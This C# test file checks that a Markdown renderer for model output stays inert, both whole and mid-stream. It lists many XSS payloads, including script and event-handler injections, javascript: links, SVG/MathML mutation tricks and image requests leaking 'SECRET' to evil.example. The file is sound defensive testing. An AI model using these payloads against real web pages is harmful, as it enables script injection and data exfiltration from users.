using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Parley.Web.Markdown;

namespace Parley.Tests.Web.Markdown;

/// <summary>No text of a model can do anything in the page, whole or cut at any character.</summary>
public sealed class MarkdownSafetyTests
{
    private static readonly MarkdownRenderer Renderer = new();
    private static readonly HtmlParser Parser = new();

    private static readonly HashSet<string> Attributes =
    [
        "href", "src", "alt", "title", "class", "start", "rel", "target", "type", "disabled", "checked", "tabindex", "role", "aria-label", "data-copy",
    ];

    private static readonly HashSet<string> ForbiddenElements =
    [
        "script", "style", "svg", "math", "iframe", "object", "embed", "base", "meta", "link", "form", "template", "video", "audio", "source",
        "body", "details", "portal", "textarea", "select",
    ];

    public static TheoryData<string> Payloads =>
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil>", "</div><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a onpointerover=alert(1)>x</a>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x>#x\">", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">x</math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)",
        "[x](&#1;javascript:alert(1))", "<javascript:alert(1)>", "![x](javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox)", "[x](blob:https://a/b)", "[x](file:///etc/passwd)",
        "[x](ms-word:ofe|u|https://evil)", "[x](//evil)", "[x](\\\\evil\\share)", "[x](/sign-out)", "[x](#main)",
        "# h {onclick=alert(1)}", "[a](https://x.example){onclick=alert(1)}", "![a](https://x.example/i.png){onerror=alert(1)}", "```js {onclick=alert(1)}\ncode\n```",
        "```\"><script>alert(1)</script>\ncode\n```", "<iframe src=//evil></iframe>", "<object data=//evil>", "<embed src=//evil>", "<base href=//evil>",
        "<meta http-equiv=refresh content=0;url=//evil>", "<link rel=stylesheet href=//evil>", "<form action=//evil><button formaction=//evil>go</button></form>",
        "<portal src=//evil>", "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<style>*{display:none}</style>", "<p style=\"position:fixed;inset:0\">x</p>", "<p style=\"background:url(//evil)\">x</p>", "<div class=\"dialog sidebar\">x</div>",
        "<a id=getElementById>x</a>", "<form name=body>", "<img name=getElementById>",
        "```mermaid\nclick A \"javascript:alert(1)\"\nclassDef x fill:red</style>\n```", "$\\href{javascript:alert(1)}{x}$", "$$\n\\htmlData{onclick=alert(1)}{x}\n$$",
        "$<img src=x onerror=alert(1)>$", "<img src=x one\nrror=alert(1)>", "&#106;&#97;vascript:", "&#10", "&#106", "[x](https://evil.example/\u202Egpj.exe)",
        "![x](https://evil.example/?q=SECRET)", "![x][r]\n\n[r]: https://evil.example/?q=SECRET", "<img srcset=\"https://evil.example/x 2x\">", "![x](//evil.example/x.png)",
        "[![x](https://evil.example/x.png)](https://evil.example/y)", "![v](https://www.youtube.com/watch?v=abc)",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)", "![x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/png,<script>alert(1)</script>)",
        "text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))", "text[^<b>]\n\n[^<b>]: x",
        "- [ ] <script>alert(1)</script>", "a | <b onclick=x>\n--- | ---\n<img src=x onerror=alert(1)> | [x](javascript:alert(1))",
        "Term\n: <script>alert(1)</script>", "::: <script>\nx\n:::", ":smile: <b>", "*[HTML]: <script>\n\nHTML", "<a href=\"https://x.example\" ping=\"//evil\">x</a>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void A_hostile_text_is_only_text(string payload)
    {
        Check(Renderer.Render(payload, "m"));
        Check(Renderer.Render($"before {payload} after", "m"));
        Check(Renderer.Render($"> - {payload}\n\n{payload}", "m"));
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void A_hostile_text_is_only_text_at_every_moment_of_a_stream(string payload)
    {
        var growing = new GrowingHtml(Renderer, "m");
        foreach (var character in payload + "\n\nend\n")
        {
            growing.Append(character.ToString());
            growing.Advance();
            foreach (var change in growing.Since(growing.Version - 1))
                Check(change.Html ?? "");
        }
    }

    [Fact]
    public void What_was_written_stays_readable() =>
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", Renderer.Render("<script>alert(1)</script>", "m"), StringComparison.Ordinal);

    [Fact]
    public void A_link_opens_a_new_tab_that_knows_nothing_of_this_one()
    {
        var link = Parse(Renderer.Render("[a](https://example.org/x?y=1&z=2)", "m")).QuerySelector("a")!;

        Assert.Equal("https://example.org/x?y=1&z=2", link.GetAttribute("href"));
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
    }

    [Theory]
    [InlineData("[a](https://example.org/)", "https://example.org/")]
    [InlineData("[https://bank.example](https://evil.example/ \"https://bank.example\")", "https://evil.example/")]
    [InlineData("[https://example.org/](https://example.org/)", null)]
    public void Where_a_link_leads_is_told_before_it_is_followed(string markdown, string? title) =>
        Assert.Equal(title, Parse(Renderer.Render(markdown, "m")).QuerySelector("a")!.GetAttribute("title"));

    [Fact]
    public void A_look_alike_host_is_spelled_out() =>
        Assert.Equal("https://xn--pple-43d.com/a", Parse(Renderer.Render("[apple.com](https://аpple.com/a)", "m")).QuerySelector("a")!.GetAttribute("title"));

    [Fact]
    public void A_picture_from_elsewhere_is_a_box_that_names_its_host()
    {
        var box = Parse(Renderer.Render("![a chart](https://evil.example/?q=1)", "m")).QuerySelector("a.remote-image")!;

        Assert.Equal("https://evil.example/?q=1", box.GetAttribute("title"));
        Assert.Equal("Image from evil.example a chart Open in a new tab", box.TextContent);
    }

    [Fact]
    public void A_small_picture_within_the_text_is_shown() =>
        Assert.Equal("data:image/png;base64,iVBORw0KGgo=",
            Parse(Renderer.Render("![dot](data:image/png;base64,iVBORw0KGgo=)", "m")).QuerySelector("img")!.GetAttribute("src"));

    [Fact]
    public void A_text_too_long_to_render_is_shown_as_it_is()
    {
        var html = Renderer.Render($"![dot](data:image/png;base64,{new string('A', 10_000_000)})", "m");

        Assert.Null(Parse(html).QuerySelector("img"));
        Assert.StartsWith("![dot](", Parse(html).QuerySelector("div.plain")!.TextContent, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(">", 100_000)]
    [InlineData("[", 50_000)]
    [InlineData("*a **a ", 20_000)]
    [InlineData("![", 50_000)]
    [InlineData("`a``b```", 40_000)]
    [InlineData("a|", 50_000)]
    [InlineData("&#106;", 50_000)]
    [InlineData("😀", 50_000)]
    [InlineData("https://a.example/ ", 5_000)]
    [InlineData("- a\n", 20_000)]
    [InlineData("[^1]", 50_000)]
    [InlineData("$a", 100_000)]
    public async Task Repetition_ends_in_bounded_time(string piece, int times)
    {
        var text = string.Concat(Enumerable.Repeat(piece, times));

        var rendering = Task.Run(() => Renderer.Render(text, "m"), TestContext.Current.CancellationToken);

        await rendering.WaitAsync(TimeSpan.FromMinutes(2), TestContext.Current.CancellationToken);
    }

    private static IDocument Parse(string html) => Parser.ParseDocument(html);

    private static void Check(string html)
    {
        foreach (var element in Parse(html).Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, ForbiddenElements);
            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name == "id")
                    Assert.Matches("^fn(ref)?-m-[0-9]+$", attribute.Value);
                else
                    Assert.Contains(attribute.Name, Attributes);
            }

            if (element.GetAttribute("href") is { } href)
                Assert.Matches("^(https?://|mailto:|#fn(ref)?-m-)", href);
            if (element.GetAttribute("src") is { } src)
                Assert.Matches("^data:image/(png|jpeg|gif|webp|avif);base64,", src);
            if (element.LocalName == "input")
                Assert.True(element.GetAttribute("type") == "checkbox" && element.HasAttribute("disabled"));
            if (element.LocalName == "button")
                Assert.Equal("code", element.GetAttribute("data-copy"));
        }
    }
}
